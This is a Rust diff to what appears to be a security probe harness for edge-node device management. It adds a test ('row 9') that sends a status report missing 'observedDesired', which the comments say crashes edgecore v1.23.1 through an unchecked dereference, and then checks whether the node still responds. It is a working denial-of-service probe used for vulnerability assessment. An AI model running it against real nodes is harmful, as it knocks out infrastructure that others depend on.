@@ -106,6 +106,33 @@ fn report(
     property: &str,
     value: String,
 ) -> pb::ReportDeviceStatusRequest {
+    let mut request = bare_report(namespace, name, property, value);
+    // mapper-framework always sends the desired value it holds; edgecore v1.23.1 dereferences
+    // it unchecked (see row 9).
+    if let Some(twin) = request
+        .reported_device
+        .as_mut()
+        .and_then(|d| d.twins.first_mut())
+    {
+        twin.observed_desired = Some(pb::TwinProperty {
+            value: String::new(),
+            metadata: twin
+                .reported
+                .as_ref()
+                .map(|r| r.metadata.clone())
+                .unwrap_or_default(),
+        });
+    }
+    request
+}
+
+/// A report without `observedDesired`, which a client may send.
+fn bare_report(
+    namespace: &str,
+    name: &str,
+    property: &str,
+    value: String,
+) -> pb::ReportDeviceStatusRequest {
     pb::ReportDeviceStatusRequest {
         device_name: name.to_owned(),
         device_namespace: namespace.to_owned(),
@@ -342,6 +369,27 @@ impl Probe {
         ))
     }
 
+    /// Row 9: a report without `observedDesired`, then whether the node still answers.
+    async fn without_observed_desired(&self) -> Result<String> {
+        let mut client = connect(&self.cli.socket).await?;
+        let request = bare_report(
+            &self.namespace,
+            &self.name,
+            &self.cli.property,
+            EVIL_VALUE.to_owned(),
+        );
+        let answer = match client.report_device_status(request).await {
+            Ok(_) => "OK".to_owned(),
+            Err(status) => format!("refused: {}", status_text(&status)),
+        };
+        tokio::time::sleep(Duration::from_secs(1)).await;
+        let alive = match connect(&self.cli.socket).await {
+            Ok(_) => "the node still answers".to_owned(),
+            Err(e) => format!("the node no longer answers ({})", error_text(&e)),
+        };
+        Ok(format!("{answer}; {alive}"))
+    }
+
     /// Row 6.
     async fn oversized(&self) -> Result<String> {
         let mut client = connect(&self.cli.socket).await?;
@@ -421,6 +469,10 @@ async fn main() -> Result<()> {
     if let Ok(mapper) = &mapper {
         row("(the node's calls to our mapper)", mapper.calls());
     }
+    row(
+        "report without observedDesired",
+        within(limit, probe.without_observed_desired()).await,
+    );
 
     println!();
     println!("| # | attack | result |");
